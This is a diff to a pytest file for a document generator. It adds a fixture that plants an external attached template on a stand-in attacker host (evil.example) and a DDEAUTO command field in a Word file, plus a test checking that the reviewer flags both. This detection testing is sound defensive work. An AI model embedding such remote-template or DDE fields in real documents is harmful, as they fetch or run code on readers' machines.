@@ -11,7 +11,7 @@ from random import Random
 
 import pytest
 
-from generator.files.zip_archive import DOCUMENT, open_archive
+from generator.files.zip_archive import DOCUMENT, open_archive, package
 from generator.form.disclosure.edition_2021 import FORM
 from generator.formats.docx.reading.body import read_body
 from generator.formats.xlsx.editing.cell_edits import CellValue, edit_cells
@@ -100,6 +100,24 @@ def lines_of(data: bytes) -> list[str]:
 def tables_of(data: bytes) -> list[list[str]]:
     manuscript = read_body(open_archive(data, "", DOCUMENT), "").manuscript
     return [list(grid.cells.values()) for grid in manuscript.grids]
+
+
+def leading_outside(data: bytes) -> bytes:
+    """Return a document with what a stranger may have put in: a template, a field that fetches."""
+    relation = (
+        '<Relationship Id="rId900" Type="http://schemas.openxmlformats.org/officeDocument/2006/'
+        'relationships/attachedTemplate" Target="http://evil.example/t.dotm" '
+        'TargetMode="External"/>'
+    )
+    parts = open_archive(data, "", DOCUMENT)
+    relations, field = "word/_rels/document.xml.rels", '<w:fldSimple w:instr="DDEAUTO cmd"/>'
+    return package(
+        {
+            **parts,
+            relations: parts[relations].replace(b"</Rel", relation.encode() + b"</Rel"),
+            DOCUMENT: parts[DOCUMENT].replace(b"<w:body>", f"<w:body><w:p>{field}</w:p>".encode()),
+        }
+    )
 
 
 def expected(truth: Reviewed) -> list[str]:
@@ -375,3 +393,11 @@ def test_a_draft_of_a_workbook_without_a_table_can_be_reviewed(office: Path) -> 
     make(workbook_of(office), output=document_of(office), draft=True, force=True)
     found = reviewed(office, document_of(office).read_bytes())
     assert (found.comparison.changes, found.cells) == ([], 0)
+
+
+def test_what_must_not_be_published_with_a_document_is_told(office: Path) -> None:
+    assert reviewed(office, generated()).foreign == []
+    assert set(reviewed(office, leading_outside(generated())).foreign) == {
+        "域“DDEAUTO cmd”（内部文件 word/document.xml）",
+        "附加的模板（指向 http://evil.example/t.dotm）（内部文件 word/_rels/document.xml.rels）",
+    }
